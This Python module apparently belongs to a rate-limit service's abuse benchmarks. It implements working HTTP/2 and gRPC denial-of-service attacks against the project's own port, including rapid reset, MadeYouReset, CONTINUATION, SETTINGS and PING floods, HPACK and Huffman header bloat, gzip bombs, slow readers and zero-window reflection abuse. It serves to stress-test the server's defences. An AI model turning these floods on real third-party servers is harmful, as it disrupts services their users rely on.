"""Attacks on the gRPC port by HTTP/2 and by what calls ask for."""

from __future__ import annotations

import asyncio
import gzip

from benchmarks.abuse.attack import attack, call, flood, head, headers, prefixed, request, settled
from benchmarks.abuse.wire import DEFAULT_WINDOW, H2, Aim, Wire
from benchmarks.load import BLOCK, NO_TABLE, body, body_of
from ratelimit_service.grpc.h2 import frames
from ratelimit_service.grpc.h2.frames import (
    MAX_FRAME_SIZE,
    ErrorCode,
    FrameType,
    SettingId,
)
from ratelimit_service.grpc.h2.headers import literal
from ratelimit_service.model import Descriptor, Entry
from ratelimit_service.wire import METHOD, SERVICE

MANY_SETTINGS = frames.frame(
    FrameType.SETTINGS,
    0,
    0,
    b"".join(
        SettingId.INITIAL_WINDOW_SIZE.to_bytes(2, "big") + (65_535 + at % 2).to_bytes(4, "big")
        for at in range(2_730)
    ),
)


async def many_settings(aim: Aim, rate: float) -> None:
    """1,000 open streams, and then settings that change the windows of all of them."""
    wire: Wire | None = None
    async for _ in aim.due(rate):
        if wire is None or not wire.open:
            opened = wire = await settled(aim)
            wire.write(b"".join(headers(opened.next_stream(), BLOCK) for _ in range(1_000)))
        wire.write(MANY_SETTINGS)
        await wire.written()


@attack("SETTINGS of 2,730 windows, one a second")
async def settings_each_second(aim: Aim) -> None:
    await many_settings(aim, 1)


@attack("SETTINGS of 2,730 windows, 200 a second")
async def settings_sustained(aim: Aim) -> None:
    await many_settings(aim, 200)


@attack("header lists of 16,100 indexed fields, 4 a second")
async def header_lists(aim: Aim) -> None:
    # 0x90 is `accept-encoding: gzip, deflate`, a byte each.
    block = BLOCK + b"\x90" * (MAX_FRAME_SIZE - len(BLOCK))
    await flood(aim, 4, lambda wire: call(wire.next_stream(), body(1, 1), block))


@attack("Huffman paths of 15 KB, 10 a second")
async def huffman_paths(aim: Aim) -> None:
    def make(wire: H2) -> bytes:
        stream_id = wire.next_stream()
        number = 0
        for digit in f"{stream_id:08d}":  # 5 bits each: no two paths are alike
            number = number << 5 | int(digit)
        path = bytes(15_000) + number.to_bytes(5, "big")
        coded = b"\x04\xff" + bytes((0x80 | (15_005 - 127) & 0x7F, (15_005 - 127) >> 7)) + path
        return call(stream_id, body(1, 1), NO_TABLE + b"\x83\x86" + coded)

    await flood(aim, 10, make)


@attack("CONTINUATION without end, 20,000 a second")
async def continuations(aim: Aim) -> None:
    started: set[H2] = set()

    def make(wire: H2) -> bytes:
        if wire not in started:
            started.add(wire)
            return frames.frame(FrameType.HEADERS, 0, wire.next_stream(), BLOCK)
        return frames.frame(FrameType.CONTINUATION, 0, wire.stream_id, b"")

    await flood(aim, 20_000, make)


@attack("PING, 50,000 a second")
async def pings(aim: Aim) -> None:
    await flood(aim, 50_000, lambda _: frames.ping(b"12345678", ack=False))


@attack("rapid reset, 20,000 a second")
async def rapid_reset(aim: Aim) -> None:
    def make(wire: H2) -> bytes:
        stream_id = wire.next_stream()
        return call(stream_id, body(1, 1)) + frames.rst_stream(stream_id, ErrorCode.CANCEL)

    await flood(aim, 20_000, make)


@attack("rapid reset of calls with 80 headers of their own, 5,000 a second")
async def dear_reset(aim: Aim) -> None:
    def make(wire: H2) -> bytes:
        stream_id = wire.next_stream()
        more = b"".join(literal(b"x-%d" % each, b"%d" % stream_id) for each in range(80))
        return headers(stream_id, BLOCK + more) + frames.rst_stream(stream_id, ErrorCode.CANCEL)

    await flood(aim, 5_000, make)


@attack("calls with a timeout of a microsecond, 50,000 a second")
async def hasty(aim: Aim) -> None:
    block = head(f"/{SERVICE}/{METHOD}", (b"grpc-timeout", b"1u"))
    await flood(aim, 50_000, lambda wire: call(wire.next_stream(), body(1, 1), block))


@attack("MadeYouReset, 20,000 a second")
async def made_you_reset(aim: Aim) -> None:
    malformed = NO_TABLE + literal(b"connection", b"close") + BLOCK[1:]

    def make(wire: H2) -> bytes:
        stream_id = wire.next_stream()
        if stream_id % 4 == 1:
            return headers(stream_id, malformed)
        more = frames.frame(FrameType.DATA, 0, stream_id, b"more")
        return call(stream_id, body(1, 1)) + more

    await flood(aim, 20_000, make)


@attack("1-byte WINDOW_UPDATE on 900 blocked answers, 1,500 a second")
async def window_updates(aim: Aim) -> None:
    wire: H2 | None = None
    async for number in aim.due(1_500):
        if wire is None or not wire.open:
            wire = await blocked(aim)
        wire.write(frames.window_update(0, 1) * number)
        await wire.written()


async def blocked(aim: Aim) -> H2:
    """A connection whose window is used up, on which 900 answers wait."""
    wire = await settled(aim, open_connection=False)
    size = wire.data_bytes // wire.answered
    while wire.open and aim.left > 0 and wire.data_bytes + size <= DEFAULT_WINDOW:
        number = min(200, (DEFAULT_WINDOW - wire.data_bytes) // size)
        until = wire.answered + number
        wire.write(b"".join(call(wire.next_stream(), body(1, 1)) for _ in range(number)))
        await aim.until_true(lambda until=until: wire.answered >= until)
    wire.write(b"".join(call(wire.next_stream(), body(1, 1)) for _ in range(900)))
    return wire


@attack("a slow reader, 100 bytes a second", seconds=36.0, kept=True)
async def slow_reader(aim: Aim) -> None:
    wire = await blocked(aim)
    async for _ in aim.due(1):
        wire.write(frames.window_update(0, 100))


# Calls that cost


@attack("bodies of 60 KB, 200 a second")
async def large_bodies(aim: Aim) -> None:
    def make(wire: H2) -> bytes:
        value = f"{wire.stream_id:08d}" + "x" * 60_000
        return call(wire.next_stream(), request(Descriptor((Entry("route", value),))))

    await flood(aim, 200, make)


@attack("32 calls of 256 descriptors, each second")
async def many_descriptors(aim: Aim) -> None:
    def make(wire: H2) -> bytes:
        first = wire.stream_id << 8
        keys = [("user", first + number) for number in range(256)]
        return call(wire.next_stream(), body_of(keys))

    await flood(aim, 1, lambda wire: b"".join(make(wire) for _ in range(32)))


@attack("20 connections, a call of 256 descriptors on each at once, each second", connections=20)
async def many_connections(aim: Aim) -> None:
    wires = [await settled(aim) for _ in range(20)]
    async for _ in aim.due(1):
        for number, wire in enumerate(wires):
            first = wire.stream_id << 16 | number << 8
            keys = [("user", first + each) for each in range(256)]
            wire.write(call(wire.next_stream(), body_of(keys)))


@attack("32 calls of 1,000 entries, each second")
async def many_entries(aim: Aim) -> None:
    # Calls of more than 1,024 are refused.
    def make(wire: H2) -> bytes:
        entries = tuple(Entry("route", f"{wire.stream_id + number}") for number in range(1_000))
        return call(wire.next_stream(), request(Descriptor(entries)))

    await flood(aim, 1, lambda wire: b"".join(make(wire) for _ in range(32)))


@attack("gzip messages of 64 KB in 100 bytes, 1,000 a second")
async def packed(aim: Aim) -> None:
    message = prefixed(gzip.compress(bytes(65_536), 9), packed=True)
    block = head(f"/{SERVICE}/{METHOD}", (b"grpc-encoding", b"gzip"))
    await flood(aim, 1_000, lambda wire: call(wire.next_stream(), message, block))


REFLECTION = head("/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo")


@attack("reflection behind a zero window, 17 MB")
async def reflection(aim: Aim) -> None:
    # file_containing_symbol: 44 bytes ask for the file's 4.9 KB.
    asked = prefixed(b"\x22" + bytes((len(SERVICE),)) + SERVICE.encode())
    chunk = asked * (MAX_FRAME_SIZE // len(asked))
    wire = await aim.h2(window=0)
    streams = [wire.next_stream() for _ in range(10)]
    wire.write(b"".join(headers(stream_id, REFLECTION) for stream_id in streams))
    sent, most = 0, 17_000_000
    rate = most / len(chunk) / max(0.5, aim.left * 0.8)
    async for number in aim.due(rate):
        for _ in range(number):
            stream_id = streams[sent // len(chunk) % len(streams)]
            if wire.open and sent < most and wire.room(stream_id) >= len(chunk):
                wire.data(stream_id, chunk)
                sent += len(chunk)
        await wire.written()
    aim.findings.append(f"{sent / 1e6:.1f} MB taken")


@attack("10 connections with 1,000 unfinished messages each", connections=10)
async def unfinished(aim: Aim) -> None:
    part = (65_536).to_bytes(5, "big") + bytes(65_000)

    async def one() -> None:
        wire = await settled(aim)
        for _ in range(1_000):
            stream_id = wire.next_stream()
            wire.write(headers(stream_id, BLOCK))
            await aim.until_true(lambda: not wire.open or wire.windows[0] > len(part))
            if not wire.open:
                break
            wire.data(stream_id, part)
            await wire.written()

    await asyncio.wait([asyncio.create_task(one()) for _ in range(10)], timeout=max(0.1, aim.left))
    await aim.rest()


@attack("two bytes of garbage to health, 100 a second", kept=True)
async def garbage(aim: Aim) -> None:
    block = head("/grpc.health.v1.Health/Check")
    await flood(aim, 100, lambda wire: call(wire.next_stream(), prefixed(b"\xff\xff"), block))


@attack("two bytes of garbage to reflection, 100 a second", kept=True)
async def garbage_to_reflection(aim: Aim) -> None:
    await flood(aim, 100, lambda wire: call(wire.next_stream(), prefixed(b"\xff\xff"), REFLECTION))


@attack("paths of 16 KB that answers repeat, 100 a second")
async def long_answers(aim: Aim) -> None:
    block = head("/" + "\x7f" * 15_000)
    await flood(aim, 100, lambda wire: call(wire.next_stream(), body(1, 1), block))
